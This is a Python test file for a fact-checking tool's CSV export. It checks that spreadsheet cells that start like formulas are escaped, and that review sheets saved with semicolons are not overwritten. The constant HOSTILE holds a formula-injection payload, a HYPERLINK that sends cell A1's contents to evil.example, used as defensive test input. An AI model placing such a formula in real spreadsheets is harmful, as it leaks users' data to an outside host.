"""Sheets written for people to open in a spreadsheet (issue 65, items 6 and 10).

A cell from a seed, a dataset or a model that starts like a formula ran as one there; a review
sheet saved back with ``;`` between its cells (many locales' spreadsheets) read as unfilled, so
the next build overwrote the decisions in it.
"""

import csv
import json
from pathlib import Path

from factcourt.cli import main
from factcourt.store import sheet_rows, sheet_text
from tests.faults import one_error

SEEDS = Path(__file__).parent.parent / "fixtures" / "halluqa_seeds.json"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _build(tmp_path, capsys, question=None):
    seeds = json.loads(SEEDS.read_text(encoding="utf-8"))[:2]
    if question:
        seeds[0]["Question"] = question
    path = tmp_path / "seeds.json"
    path.write_text(json.dumps(seeds, ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "lq"
    argv = ["build-longqa", "--seeds", str(path), "--out", str(out), "--model", "sim", "--no-cache"]
    argv += ["--search", "none", "--quiet"]
    assert main(argv) == 0, capsys.readouterr().err
    return out, argv


def test_a_seed_question_that_is_a_formula_is_written_as_text_and_reads_back(tmp_path, capsys):
    out, rebuild = _build(tmp_path, capsys, HOSTILE)
    with (out / "review.csv").open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert HOSTILE not in cells and "'" + HOSTILE in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    # the quote comes off on reading: a rebuild finds the sheet unchanged, not edited
    assert main(rebuild) == 0
    rows = sheet_rows((out / "review.csv").read_text(encoding="utf-8"))
    assert HOSTILE in {r["seed_question"] for r in rows}


def test_sheet_cells_keep_numbers_and_lose_only_their_own_quote():
    text = sheet_text(["a", "b", "c"], [{"a": "-0.5", "b": "@x", "c": "'plain"}])
    assert text.splitlines()[1] == "-0.5,'@x,'plain"
    assert sheet_rows(text) == [{"a": "-0.5", "b": "@x", "c": "'plain"}]


def _save_with_semicolons(sheet: Path, decision: str, reason: str) -> None:
    """Fill the first row and save the sheet as a spreadsheet in a ``;`` locale does."""
    rows = list(csv.DictReader(sheet.open(encoding="utf-8", newline="")))
    rows[0].update(decision=decision, reason=reason)
    with sheet.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, list(rows[0]), delimiter=";")
        writer.writeheader()
        writer.writerows(rows)


def test_a_review_sheet_saved_with_semicolons_is_guarded_and_imports(tmp_path, capsys):
    out, rebuild = _build(tmp_path, capsys)
    sheet = out / "review.csv"
    _save_with_semicolons(sheet, "drop", "a duplicate")
    capsys.readouterr()
    assert main(rebuild) == 2
    said = one_error(capsys.readouterr().err)
    assert "not imported yet" in said and "--import-review" in said
    assert "a duplicate" in sheet.read_text(encoding="utf-8")
    assert main(["build-longqa", "--out", str(out), "--import-review", str(sheet), "--quiet"]) == 0
    decided = json.loads((out / "reviews.json").read_text(encoding="utf-8"))
    assert [d["reason"] for stages in decided.values() for d in stages.values()] == ["a duplicate"]


def test_a_review_sheet_changed_past_reading_is_not_overwritten(tmp_path, capsys):
    out, rebuild = _build(tmp_path, capsys)
    sheet = out / "review.csv"
    sheet.write_text("id|decision|reason\n7|drop|mine\n", encoding="utf-8")
    capsys.readouterr()
    assert main(rebuild) == 2
    assert "no longer reads as a review sheet" in one_error(capsys.readouterr().err)
    assert sheet.read_text(encoding="utf-8") == "id|decision|reason\n7|drop|mine\n"


def test_a_dataset_claim_that_is_a_formula_is_written_as_text_in_wrong_predictions(tmp_path):
    from factcourt.bench.report import write_wrong_predictions

    record = {"method": "m", "id": "1", "claim": HOSTILE, "gold": True, "verdict": "refuted", "error": None}
    assert write_wrong_predictions([record], tmp_path / "w.csv") == 1
    with (tmp_path / "w.csv").open(encoding="utf-8", newline="") as fh:
        assert list(csv.reader(fh))[1][:5] == ["m", "1", "'" + HOSTILE, "True", "refuted"]
